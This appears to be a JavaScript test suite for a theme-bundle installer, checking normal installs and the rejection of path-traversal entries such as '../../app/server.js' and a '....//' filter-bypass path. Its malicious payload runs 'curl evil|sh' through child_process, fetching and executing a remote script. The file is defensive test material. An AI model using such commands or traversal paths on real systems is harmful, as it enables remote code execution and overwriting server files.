'use strict';
const fs = require('fs');
const path = require('path');

const b64 = (s) => Buffer.from(s).toString('base64');

function setup(ctx) {
  const themes = path.join(ctx.workdir, 'themes');
  fs.mkdirSync(themes);
  fs.mkdirSync(path.join(ctx.workdir, 'app'));
  fs.writeFileSync(path.join(ctx.workdir, 'app', 'server.js'), 'ORIGINAL\n');
  return themes;
}

function listAll(dir) {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { recursive: true }).map(String).sort();
}

async function refused(ctx, entryPath, mustReject = true) {
  const themes = setup(ctx);
  const r = await ctx.attempt(themes, { name: 'evil', files: [
    { path: 'style.css', content: b64('body{}') },
    { path: entryPath, content: b64('require("child_process").exec("curl evil|sh")') },
  ] });
  ctx.assert.equal(fs.readFileSync(path.join(ctx.workdir, 'app', 'server.js'), 'utf8'), 'ORIGINAL\n', 'server.js was overwritten');
  // "...." is a legal folder name: writing it inside the theme folder is harmless.
  if (!mustReject && !r.error) return;
  ctx.assert.ok(r.error, `the bundle with ${entryPath} was installed: ${JSON.stringify(r.value)}`);
  ctx.assert.deepEqual(listAll(path.join(themes, 'evil')).filter((p) => !fs.statSync(path.join(themes, 'evil', p)).isDirectory()), [], 'a rejected bundle wrote files');
}

module.exports = {
  installs_flat_theme: async (ctx) => {
    const themes = setup(ctx);
    const written = await ctx.call(themes, { name: 'sunrise', files: [
      { path: 'theme.json', content: b64('{"title":"Sunrise"}') },
      { path: 'style.css', content: b64('h1{color:orange}') },
    ] });
    ctx.assert.deepEqual(written, ['theme.json', 'style.css']);
    ctx.assert.equal(fs.readFileSync(path.join(themes, 'sunrise', 'style.css'), 'utf8'), 'h1{color:orange}');
    ctx.assert.equal(fs.readFileSync(path.join(themes, 'sunrise', 'theme.json'), 'utf8'), '{"title":"Sunrise"}');
  },
  creates_subfolders: async (ctx) => {
    const themes = setup(ctx);
    const written = await ctx.call(themes, { name: 'night_2', files: [
      { path: 'css/main.css', content: b64('body{background:#000}') },
      { path: 'img/icons/star.svg', content: b64('<svg/>') },
    ] });
    ctx.assert.deepEqual(written, ['css/main.css', 'img/icons/star.svg']);
    ctx.assert.equal(fs.readFileSync(path.join(themes, 'night_2', 'img', 'icons', 'star.svg'), 'utf8'), '<svg/>');
  },
  reinstall_replaces_files: async (ctx) => {
    const themes = setup(ctx);
    await ctx.call(themes, { name: 'sunrise', files: [{ path: 'style.css', content: b64('v1') }] });
    await ctx.call(themes, { name: 'sunrise', files: [{ path: 'style.css', content: b64('v2') }] });
    ctx.assert.equal(fs.readFileSync(path.join(themes, 'sunrise', 'style.css'), 'utf8'), 'v2');
  },
  invalid_name_rejected: async (ctx) => {
    const themes = setup(ctx);
    const r = await ctx.attempt(themes, { name: 'my theme', files: [{ path: 'a.css', content: b64('x') }] });
    ctx.assert.ok(r.error, 'a name with a space was accepted');
    ctx.assert.deepEqual(listAll(themes), []);
  },
  dotdot_entry_path: async (ctx) => {
    await refused(ctx, '../../app/server.js');
  },
  absolute_entry_path: async (ctx) => {
    await refused(ctx, path.join(ctx.workdir, 'app', 'server.js'));
  },
  nested_dotdot_filter_bypass: async (ctx) => {
    await refused(ctx, 'css/....//....//....//app/server.js', false);
  },
};
